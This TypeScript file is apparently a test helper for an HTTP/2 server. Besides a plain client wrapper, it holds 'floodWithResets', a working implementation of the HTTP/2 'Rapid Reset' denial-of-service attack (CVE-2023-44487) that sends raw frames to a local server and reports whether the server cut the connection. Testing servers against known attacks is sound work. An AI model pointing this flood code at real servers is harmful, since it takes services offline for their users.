import http2 from 'node:http2'
import { connect } from 'node:tls'
import { sleep } from '../platform/time.ts'

/** A stream on an HTTP/2 connection, with all the text that it has delivered. */
export interface Http2Stream {
  readonly text: string
  /** Stops reading: the stream's flow control window fills up. */
  pause(): void
  resume(): void
}

/** One HTTP/2 connection to a server. */
export interface Http2Client extends AsyncDisposable {
  /** Opens a stream. */
  open(path: string): Http2Stream
}

/** Opens an HTTP/2 connection. @param ca PEM text of the authority that the server's certificate is of */
export async function openHttp2(url: string, ca: string): Promise<Http2Client> {
  const session = http2.connect(url, { ca })
  const connected = Promise.withResolvers<void>()
  session.once('connect', () => connected.resolve())
  session.on('error', (error) => connected.reject(error))
  await connected.promise
  const request = (path: string) => {
    const stream = session.request({ ':path': path })
    // The test sees the end of the connection.
    stream.on('error', () => {})
    return stream
  }
  return {
    open(path) {
      let text = ''
      const stream = request(path)
      stream.setEncoding('utf8').on('data', (part: string) => {
        text += part
      })
      return {
        get text() {
          return text
        },
        pause: () => void stream.pause(),
        resume: () => void stream.resume(),
      }
    },
    async [Symbol.asyncDispose]() {
      session.destroy()
    },
  }
}

const HEADERS = 1
const RST_STREAM = 3
const SETTINGS = 4
const END_STREAM_AND_HEADERS = 5

/** A frame (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** A GET for a path on `localhost`, in HPACK without compression (RFC 7541): `:method`, `:scheme`, `:path`, `:authority`. */
const getOf = (path: string) =>
  Buffer.concat([
    Buffer.from([0x82, 0x87, 0x04, path.length]),
    Buffer.from(path),
    Buffer.from([0x01, 9]),
    Buffer.from('localhost'),
  ])

/**
 * "Rapid reset" (CVE-2023-44487): sends requests on one connection and resets each at once.
 *
 * @param path of fewer than 127 characters
 * @returns whether the server has ended the connection before all were sent
 */
export async function floodWithResets(url: string, ca: string, path: string, count: number): Promise<boolean> {
  const { port } = new URL(url)
  const socket = connect({ host: '127.0.0.1', port: Number(port), servername: 'localhost', ca, ALPNProtocols: ['h2'] })
  let isClosed = false
  socket.on('close', () => {
    isClosed = true
  })
  // A reset of the connection is an end like any other.
  socket.on('error', () => {})
  await new Promise((resolve) => socket.once('secureConnect', resolve))
  socket.resume().write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0)]))
  const [request, cancel] = [getOf(path), Buffer.from([0, 0, 0, 8])]
  for (let sent = 0; sent < count && !isClosed; sent += 100) {
    const ids = Array.from({ length: 100 }, (_, index) => 2 * (sent + index) + 1)
    socket.write(
      Buffer.concat(
        ids.flatMap((id) => [frame(HEADERS, END_STREAM_AND_HEADERS, id, request), frame(RST_STREAM, 0, id, cancel)]),
      ),
    )
    await sleep(1)
  }
  socket.destroy()
  return isClosed
}
